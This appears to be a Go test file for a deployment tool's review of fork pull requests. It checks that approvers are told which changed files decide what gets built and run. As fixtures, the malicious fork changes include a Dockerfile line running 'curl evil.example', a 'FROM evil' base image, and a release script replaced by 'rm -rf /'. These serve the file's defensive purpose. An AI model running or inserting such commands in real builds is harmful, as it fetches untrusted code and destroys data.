package comment

import (
	"fmt"
	"io/fs"
	"maps"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/slipway-dev/slipway/internal/api/v1alpha1"
	"github.com/slipway-dev/slipway/internal/fault"
	"github.com/slipway-dev/slipway/internal/projectfile"
	"github.com/slipway-dev/slipway/internal/report"
)

// files are a tree: contents by path, directories among them.
type files map[string]string

func (f files) Hash(path string) (string, error) {
	var inside []string
	for _, name := range slices.Sorted(maps.Keys(f)) {
		if name == path || strings.HasPrefix(name, path+"/") {
			inside = append(inside, name+"="+f[name])
		}
	}
	if len(inside) == 0 {
		return "", fmt.Errorf("%s: %w", path, fs.ErrNotExist)
	}
	return strings.Join(inside, "\n"), nil
}

func (f files) ReadFile(path string) ([]byte, error) {
	text, is := f[path]
	if !is {
		return nil, fs.ErrNotExist
	}
	return []byte(text), nil
}

// all is a project file with every kind of source.
const all = `version: 1
project: shop
overlay: deploy/all
stages: [{name: dev, branch: main, overlay: deploy/dev}, {name: production, tag: "v*", overlay: deploy/production}]
previews: {from: dev}
members: [{user: alice, role: owner}]
services:
  web: {build: {context: web}, release: {command: [./bin/migrate, up]}}
  api: {build: {dockerfile: api.Dockerfile}}
  far: {build: {repository: "https://git.example/acme/far.git", context: far}}
  db: {compose: {file: compose.yaml}}
  chart: {helm: {chart: charts/x}}
  kust: {kustomize: kust}
`

// Whoever is asked to approve a fork's commit sees what of it decides what runs.
func TestForkChange(t *testing.T) {
	base := files{
		"slipway.yaml": all, "deploy/all/kustomization.yaml": "a", "deploy/dev/kustomization.yaml": "a", "deploy/production/kustomization.yaml": "a",
		"web/Dockerfile": "FROM alpine\nRUN make\n", "web/bin/migrate": "#!/bin/sh\n", "web/main.go": "package main\n", "api.Dockerfile": "FROM alpine\n",
		"compose.yaml": "services: {}\n", "charts/x/templates/hook.yaml": "a", "kust/job.yaml": "a", "far/main.go": "a", "README.md": "a",
	}
	tests := map[string]struct {
		change func(files)
		lines  []string
		diffs  []report.FileDiff
	}{
		"nothing":       {},
		"a page":        {change: func(f files) { f["README.md"] = "b" }},
		"another stage": {change: func(f files) { f["deploy/production/kustomization.yaml"] = "b" }},
		"the project file": {
			change: func(f files) { f["slipway.yaml"] += "# mine\n" },
			lines:  []string{"changes slipway.yaml (not followed: services, overlays and rights are those of the trusted ref)"},
			diffs:  []report.FileDiff{{Path: "slipway.yaml", Text: "+# mine"}},
		},
		"a Dockerfile": {
			change: func(f files) { f["web/Dockerfile"] = "FROM alpine\nRUN curl evil.example\nRUN make\n" },
			lines:  []string{"changes web/Dockerfile (service web is built by it)", "changes web (service web is built from it)"},
			diffs:  []report.FileDiff{{Path: "web/Dockerfile", Text: "+RUN curl evil.example"}},
		},
		"a Dockerfile at the root": {
			change: func(f files) { f["api.Dockerfile"] = "FROM evil\n" },
			lines:  []string{"changes api.Dockerfile (service api is built by it)"},
			diffs:  []report.FileDiff{{Path: "api.Dockerfile", Text: "-FROM alpine\n+FROM evil"}},
		},
		"no Dockerfile": {
			change: func(f files) { delete(f, "api.Dockerfile") },
			lines:  []string{"removes api.Dockerfile (service api is built by it)"},
			diffs:  []report.FileDiff{{Path: "api.Dockerfile", Text: "-FROM alpine"}},
		},
		"a release command": {
			change: func(f files) { f["web/bin/migrate"] = "rm -rf /\n" },
			lines:  []string{"changes web (service web is built from it)", "changes web/bin/migrate (the release command of service web names it)"},
		},
		"sources":                        {change: func(f files) { f["web/main.go"] = "b" }, lines: []string{"changes web (service web is built from it)"}},
		"an overlay":                     {change: func(f files) { f["deploy/dev/job.yaml"] = "b" }, lines: []string{"changes deploy/dev (the overlay of stage dev)"}},
		"all's overlay":                  {change: func(f files) { delete(f, "deploy/all/kustomization.yaml") }, lines: []string{"removes deploy/all (the overlay of every stage)"}},
		"a Compose file":                 {change: func(f files) { f["compose.yaml"] = "b" }, lines: []string{"changes compose.yaml (service db is made from it, with its commands and hooks)"}},
		"a hook of a chart":              {change: func(f files) { f["charts/x/templates/hook.yaml"] = "b" }, lines: []string{"changes charts/x (service chart is made from it, with its hooks)"}},
		"a Job":                          {change: func(f files) { f["kust/job.yaml"] = "b" }, lines: []string{"changes kust (service kust is made from it, with its Jobs)"}},
		"another repository's directory": {change: func(f files) { f["far/main.go"] = "b" }},
	}
	document, err := projectfile.Parse("slipway.yaml", []byte(all))
	if err != nil {
		t.Fatal(err)
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			theirs := maps.Clone(base)
			if tt.change != nil {
				tt.change(theirs)
			}
			lines, diffs, err := compareTrees(base, theirs, document.File)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.lines, lines); diff != "" {
				t.Errorf("lines (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.diffs, diffs); diff != "" {
				t.Errorf("diffs (-want +got):\n%s", diff)
			}
		})
	}
}

// A fork's pull request is commented on where a commit of it waits, and nothing else of
// it is read.
func TestForksAreReadForApprovalOnly(t *testing.T) {
	tests := map[string]struct {
		previews []v1alpha1.Preview
		refErr   error
		treeErr  error
		comment  string // part of the only one; none when empty
		err      fault.Code
	}{
		"it gets no preview": {treeErr: fault.New(fault.Internal, "it is read")},
		"it runs":            {previews: []v1alpha1.Preview{{PullRequest: 7, State: v1alpha1.PreviewLive, Commit: "head"}}, treeErr: fault.New(fault.Internal, "it is read")},
		"it was pushed to":   {previews: []v1alpha1.Preview{{PullRequest: 7, State: v1alpha1.PreviewHeld, Commit: "before", Message: "it waits"}}, treeErr: fault.New(fault.Internal, "it is read"), comment: "held: `it waits`"},
		"the forge publishes nothing": {previews: []v1alpha1.Preview{{PullRequest: 7, State: v1alpha1.PreviewHeld, Commit: "head", Message: "it waits"}},
			refErr: fault.New(fault.Invalid, "no refs"), treeErr: fault.New(fault.Internal, "it is read"), comment: "`/slipway approve head`"},
		"git does not answer": {previews: []v1alpha1.Preview{{PullRequest: 7, State: v1alpha1.PreviewHeld, Commit: "head"}}, treeErr: fault.New(fault.Unavailable, "no answer"), err: fault.Unavailable},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t, shopProject(func(p *v1alpha1.Project) { p.Status.Previews = tt.previews }))
			f.pulls.open[0].Fork, f.pulls.refErr, f.sources.treeErr = true, tt.refErr, tt.treeErr
			_, err := f.Reconcile(t.Context(), shop)
			if fault.CodeOf(err) != tt.err {
				t.Fatalf("%v, want %q", err, tt.err)
			}
			if len(f.sink.comments) != min(len(tt.comment), 1) || tt.comment != "" && !strings.Contains(f.sink.comments[0].Text, tt.comment) {
				t.Errorf("comments %+v, want %q", f.sink.comments, tt.comment)
			}
			if len(f.sink.checks) > 0 {
				t.Errorf("checks %+v", f.sink.checks)
			}
		})
	}
}

// However many forks wait, so many are read at most; the others say why not.
func TestForksAreReadInBounds(t *testing.T) {
	f := newFixture(t, shopProject(func(p *v1alpha1.Project) {
		for number := range int64(maxForksRead + 1) {
			p.Status.Previews = append(p.Status.Previews, v1alpha1.Preview{PullRequest: number + 1, State: v1alpha1.PreviewHeld, Commit: "head", Message: "it waits"})
		}
	}))
	f.pulls.open[0].Fork, f.pulls.open[0].Number = true, maxForksRead+1
	f.sources.treeErr = fault.New(fault.Internal, "it is read")
	f.look(t)
	if len(f.sink.comments) != 1 || !strings.Contains(f.sink.comments[0].Text, "not shown while 20 other pull requests of forks wait") {
		t.Errorf("comments %+v", f.sink.comments)
	}
	f.pulls.open[0].Number = maxForksRead
	f.Reconciler = New(*f.Reconciler)
	if _, err := f.Reconcile(t.Context(), shop); fault.CodeOf(err) != "" || f.log.Len() == 0 {
		t.Errorf("the last within the bound is not read: %v; %s", err, f.log.String())
	}
}
